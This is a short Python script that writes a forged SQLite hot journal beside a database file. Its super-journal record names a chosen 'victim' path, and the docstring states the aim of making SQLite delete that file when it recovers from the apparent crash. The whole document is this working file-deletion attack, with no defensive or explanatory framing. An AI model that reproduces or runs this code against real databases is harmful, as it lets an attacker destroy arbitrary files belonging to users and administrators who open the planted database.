"""A journal that a crash seems to have left, and that names a file for SQLite to delete."""

import struct
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")


def plant(database: Path, victim: Path) -> Path:
    """Put a hot journal beside a SQLite file that calls the victim its super-journal (sqlite.org/fileformat.html, 3)."""
    content = database.read_bytes()
    size = struct.unpack(">H", content[16:18])[0]
    head = (MAGIC + struct.pack(">IIIII", 0, 1, len(content) // size, 512, size)).ljust(512, b"\0")
    name = str(victim.resolve()).encode()
    lock_page = struct.pack(">I", 0x40000000 // size + 1)
    tail = lock_page + name + struct.pack(">II", len(name), sum(name) & 0xFFFFFFFF) + MAGIC
    journal = database.with_name(database.name + "-journal")
    journal.write_bytes(head + tail)
    return journal
